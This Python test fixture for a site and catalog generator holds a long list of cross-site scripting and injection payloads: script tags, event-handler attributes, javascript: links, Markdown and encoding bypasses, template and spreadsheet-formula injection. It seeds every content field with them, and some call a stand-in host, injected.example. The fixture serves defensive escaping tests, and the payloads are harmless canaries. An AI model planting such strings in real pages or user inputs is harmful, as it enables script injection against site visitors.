"""Strings that would run where a text is taken for markup, and a catalog with them in every field."""

import json
import re
from pathlib import Path

from editions import REPOSITORY, Typebook

# One a technique. Each sets `ran` where it runs; ASK is an address that a page must not ask for.
ASK = "https://injected.example/x"
JS = "window.ran=1"
TECHNIQUES = [
    # Elements that run by themselves.
    f"<script>{JS}</script>", f"<SCRIPT>{JS}</SCRIPT>", f"<script/x>{JS}</script/x>", f"<script\t>{JS}</script>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>", f"<script src={ASK}></script>", f"<script src=//injected.example></script>",
    f"<script src=data:text/javascript,{JS}></script>", f"<script type=module>{JS}</script>", f"<svg><script>{JS}</script></svg>",
    f"<svg><script href=data:,{JS} /></svg>", f"<math><script>{JS}</script></math>", f"<script>{JS}//", f"<script>{JS}<!--",
    f"<noscript><p title=\"</noscript><img src=x onerror={JS}>\">", f"<template><script>{JS}</script></template>",
    # Elements whose events come by themselves.
    f"<img src=x onerror={JS}>", f"<img/src=x/onerror={JS}>", f"<IMG SRC=x OnErRoR={JS}>", f"<img src=x onerror\n={JS}>".replace("\n", "\f"),
    f"<img src='x' onerror='{JS}'>", f'<img src="x" onerror="{JS}">', f"<img src=`x` onerror=`{JS}`>", f"<img src=x onerror={JS} //",
    f"<image src=x onerror={JS}>", f"<svg onload={JS}>", f"<svg/onload={JS}>", f"<body onload={JS}>", f"<body onpageshow={JS}>",
    f"<frameset onload={JS}>", f"<iframe onload={JS}>", f"<iframe src=javascript:{JS}>", f"<iframe srcdoc='<script>parent.ran=1</script>'>",
    f"<object data=javascript:{JS}>", f"<object data=x onerror={JS}>", f"<embed src=javascript:{JS}>", f"<video src=x onerror={JS}>",
    f"<video><source onerror={JS}></video>", f"<audio src=x onerror={JS}>", f"<input autofocus onfocus={JS}>",
    f"<select autofocus onfocus={JS}>", f"<textarea autofocus onfocus={JS}>", f"<button autofocus onfocus={JS}>",
    f"<a href=x id=x tabindex=1 autofocus onfocus={JS}>", f"<details open ontoggle={JS}>", f"<marquee onstart={JS}>",
    f"<style onload={JS}></style>", f"<link rel=stylesheet href=data:, onload={JS}>", f"<style>@import '{ASK}'</style>",
    f"<style>*{{background:url({ASK})}}</style>", f"<div style=background:url({ASK})>", f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    f"<svg><set attributeName=onload to={JS}>", f"<svg><use href=data:image/svg+xml,x onerror={JS}>", f"<svg><image href=x onerror={JS}>",
    f"<svg><foreignObject><img src=x onerror={JS}></foreignObject></svg>", f"<math><mtext><img src=x onerror={JS}></mtext></math>",
    f"<div popover id=p onbeforetoggle={JS}></div>", f"<p onanimationstart={JS} style=animation:x>", f"<xss contenteditable autofocus onfocus={JS}>",
    f"<meta http-equiv=refresh content=0;url=javascript:{JS}>", f"<meta http-equiv=refresh content='0;url={ASK}'>", f"<base href={ASK}>",
    f"<form action={ASK}><input name=q autofocus></form>", f"<isindex action=javascript:{JS} type=image>", f"<link rel=icon href={ASK}>",
    f"<link rel=prefetch href={ASK}>", f"<img srcset={ASK}>", f"<picture><source srcset={ASK}><img></picture>", f"<table background={ASK}>",
    f"<a ping={ASK} href=#>x</a>",
    # Out of where a text stands.
    f"\"><script>{JS}</script>", f"'><script>{JS}</script>", f"\" onmouseover={JS} x=\"", f"' onmouseover={JS} x='", f"\" autofocus onfocus={JS} x=\"",
    f"` onfocus={JS} autofocus x=`", f"--><script>{JS}</script>", f"--!><script>{JS}</script>", f"<!--><script>{JS}</script>-->",
    f"]]><script>{JS}</script>", f"</title><script>{JS}</script>", f"</textarea><script>{JS}</script>", f"</style><script>{JS}</script>",
    f"</script><script>{JS}</script>", f"</noscript><script>{JS}</script>", f"</option></select><script>{JS}</script>", f"</template><script>{JS}</script>",
    f"<![CDATA[<script>{JS}</script>]]>", f"<?xml version=1?><script>{JS}</script>", f"<!DOCTYPE x><script>{JS}</script>", f"<!ENTITY x '{JS}'>",
    f"\\\"><script>{JS}</script>", f"\\'-{JS}-\\'", f"'-{JS}-'", f"\"-{JS}-\"", f"');{JS}//", f"\");{JS}//", f"${{{JS}}}", f"`${{{JS}}}`", f"\\u003cscript\\u003e{JS}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{JS}\\x3c/script\\x3e", f"\u2028{JS}//", f"\u2029{JS}//",
    # Texts that something decodes.
    f"&lt;script&gt;{JS}&lt;/script&gt;", f"&amp;lt;script&amp;gt;{JS}", f"&#60;script&#62;{JS}&#60;/script&#62;", f"&#x3c;img src=x onerror={JS}&#x3e;",
    f"%3Cscript%3E{JS}%3C/script%3E", f"%253Cscript%253E{JS}", f"\uff1cscript\uff1e{JS}\uff1c/script\uff1e", f"+ADw-script+AD4-{JS}+ADw-/script+AD4-",
    f"<\u0130mg src=x onerror={JS}>", f"<\u017fcript>{JS}</\u017fcript>", f"\u202e<script>{JS}</script>", f"<img src=x onerror=&#119;indow.ran=1>",
    # Addresses, in Markdown and elsewhere.
    f"javascript:{JS}", f"JaVaScRiPt:{JS}", f"java&#115;cript:{JS}", f"data:text/html,<script>{JS}</script>", f"vbscript:{JS}", f"[x](javascript:{JS})",
    f"[x](JAVASCRIPT&colon;{JS})", f"[x](java%73cript:{JS})", f"[x](<javascript:{JS}>)", f"<javascript:{JS}>", f"![x](javascript:{JS})", f"[x][y] [y]: javascript:{JS}",
    f"[x](data:text/html;base64,PHNjcmlwdD4=)", f"[x](https://a.example/\"onmouseover={JS})", f"[x](https://a.example/ 'a\" onfocus={JS} b=\"')",
    f"![x\" onerror={JS} y=\"](x.png)", f"<https://a.example/\"onmouseover={JS}>", f"[<img src=x onerror={JS}>](https://a.example/)", f"`<script>{JS}</script>`",
    f"**<img src=x onerror={JS}>**", f"[x](//injected.example)", f"[x](\\\\injected.example)",
    # Templates, spreadsheets and objects of scripts.
    f"{{{{{{{JS}}}}}}}", f"{{{{#x}}}}<script>{JS}</script>{{{{/x}}}}", f"{{{{constructor.constructor('{JS}')()}}}}", f"<%= {JS} %>", f"#{{{JS}}}", f"$&$`$'<script>{JS}</script>",
    f"=HYPERLINK(\"{ASK}\")", "__proto__", "constructor", f"toString\"><svg onload={JS}>",
]  # fmt: skip

# A slot for a string: in YAML between straight quotes, in Markdown as it is.
SLOT = re.compile(r"«(yaml|text)»")

CATALOG = """\
format: 1
title: '«yaml»'
description: '«yaml»'
publisher: '«yaml»'
contact: '«yaml»'
issuer: '«yaml»'
language: en
as_of: 2026-01-01
review_by: 2026-01-02
base_url: https://catalog.example/
proposals: show
marking: '«yaml»'
"""
ABOUT = """\
---
issuer: '«yaml»'
sources:
  1.0: { by: '«yaml»', url: 'https://a.example/?«yaml»' }
aliases: ['«yaml»', '«yaml»']
withdrawn: { date: 2026-01-01, reason: '«yaml»' }
---

A note «text»

## 1.1

Changed «text»
"""
FACTS = """\
id: 90-509-{number}
name: 'Analyst {number} «yaml»'
kind: '«yaml»'
category: '«yaml»'
primary_core_capability: '«yaml»'
secondary_core_capability: '«yaml»'
supporting_core_capabilities: ['«yaml»', '«yaml»']
typed_team: '«yaml»'
"""
BODY = """
## Overall Function

The analyst {number} has at least {count} charts «text»

«text»

> «text»

## Description

Uses the VHF {number} «text»

## Types

### Type 1

Same as Type 2, PLUS: «text»

### Type 2

1. Knows {count} things «text»
2. «text»
    1. «text»

## Components

### Training {number} «text»

#### Notes

«text»

#### Type 1

Same as Type 2, except: «text»

#### Type 2

- Has {count} hours «text»

### Gear «text»

#### Type 1

«text» {count}

## Composition and Ordering Specifications

- «text»

## Notes

«text»

## References

- [A «text»](ref:key-{number})
- «text»
"""
PROPOSAL = "base: 1.1\ntitle: '«yaml»'\nproposed_by: '«yaml»'\nproposed: 2026-01-01\n"
SUPPLEMENT = """\
---
applies_to: 90-509-{number}
title: '«yaml»'
authority: '«yaml»'
relation: adds
versions: [1.0, 1.1]
facts:
  single_resource: '«yaml»'
---

Local «text»

## Types

### Type 2

Local «text»
"""
REFERENCE = """\
  - key: key-{number}
    author: ['«yaml»', '«yaml»']
    title: '«yaml»'
    container: '«yaml»'
    number: '«yaml»'
    citation: 'C{number} «yaml»'
    url: 'https://a.example/?«yaml»'
    aliases: ['«yaml»']
"""
VOCABULARY = """\
---
title: '«yaml»'
field: abbreviation
open: true
terms:
  - {{ name: VHF, expansion: '«yaml»', aliases: ['«yaml»'] }}
  - {{ name: 'Term {number} «yaml»', expansion: '«yaml»' }}
---

Intro «text»

## VHF

Radio «text»
"""
PAGE = "---\ntitle: '{number} «yaml»'\ndescription: '«yaml»'\n---\n\n## H «text»\n\nText «text»\n"


class InjectedCatalog:
    """A catalog of so many definitions; the strings take turns in its fields."""

    def __init__(self, folder: Path, typebook: Typebook, definitions: int):
        self.folder = folder
        self.typebook = typebook
        self.definitions = definitions
        self.placed: dict[tuple[str, int], list[str]] = {}
        self.refused: set[tuple[str, int]] = set()
        self.kept_out: set[str] = set()
        self.next = 0
        # What the program refuses is taken out, and counted: it can't run either.
        for _ in range(40):
            self.placed, self.next = {}, 0
            self._write()
            done = typebook.run("check", *self._places(), "--format", "json")
            errors = [found for found in json.loads(done.stdout)["diagnostics"] if found["severity"] == "error"]
            if not errors:
                break
            for found in errors:
                self.refused.add(self._cause(found["path"], found["line"]))
        assert not errors, errors[:3]

    @property
    def strings(self) -> set[str]:
        return {string for strings in self.placed.values() for string in strings}

    @property
    def places(self) -> int:
        return sum(map(len, self.placed.values()))

    def _cause(self, path: str, line: int) -> tuple[str, int]:
        """The line of an error, or the one before it with a string: an HTML block swallows lines."""
        while (path, line) not in self.placed and line > 1:
            line -= 1
        return path, line

    def build(self) -> Path:
        done = self.typebook.run("build", *self._places(), "--output", self.folder / "Site")
        assert done.returncode == 0, done.stderr
        return self.folder / "Site"

    def export(self) -> Path:
        done = self.typebook.run("export", "html", *self._places(), "--output", self.folder / "one.html")
        assert done.returncode == 0, done.stderr
        return self.folder / "one.html"

    def _places(self) -> list[str | Path]:
        return ["--content", self.folder / "Content", "--themes", REPOSITORY / "Themes"]

    def _write(self) -> None:
        numbers = range(1, self.definitions + 1)
        self._file("catalog.yml", CATALOG)
        self._file("pages/index.md", PAGE.format(number="Home"))
        self._file("pages/guide.md", PAGE.format(number="Guide"))
        entries = "".join(REFERENCE.format(number=number) for number in numbers)
        notes = "".join(f"\n## key-{number}\n\nNote «text»\n" for number in numbers)
        self._file(
            "references/list.md", f"---\ntitle: '«yaml»'\nreferences:\n{entries}---\n\nIntro «text»\n{notes}"
        )
        self._file("vocabulary/abbreviations.md", VOCABULARY.format(number=0))
        for number in numbers:
            folder = f"definitions/90-509-{number}"
            facts, body = FACTS.format(number=number), BODY.format
            for version, count in (("1.0", 3), ("1.1", 5)):
                self._file(
                    f"{folder}/{version}.md",
                    f"---\n{facts}status: Published\nversion: {version}\n---\n{body(number=number, count=count)}",
                )
            self._file(f"{folder}/about.md", ABOUT)
            self._file(
                f"proposals/90-509-{number}/wish.md", f"---\n{facts}{PROPOSAL}---\n{body(number=number, count=8)}"
            )
            self._file(f"supplements/s{number}.md", SUPPLEMENT.format(number=number))

    def _file(self, name: str, template: str) -> None:
        path = self.folder / "Content" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        lines = [
            self._filled(line, (str(path), number))
            for number, line in enumerate(template.split("\n"), start=1)
        ]
        path.write_text("\n".join(lines), encoding="utf-8")

    def _filled(self, line: str, place: tuple[str, int]) -> str:
        def string(slot: re.Match) -> str:
            self.next += 1
            string = TECHNIQUES[self.next % len(TECHNIQUES)]
            if place in self.refused:
                self.kept_out.add(string)
                return f"plain{self.next}"
            self.placed.setdefault(place, []).append(string)
            return string.replace("'", "''") if slot[1] == "yaml" else string

        return SLOT.sub(string, line)
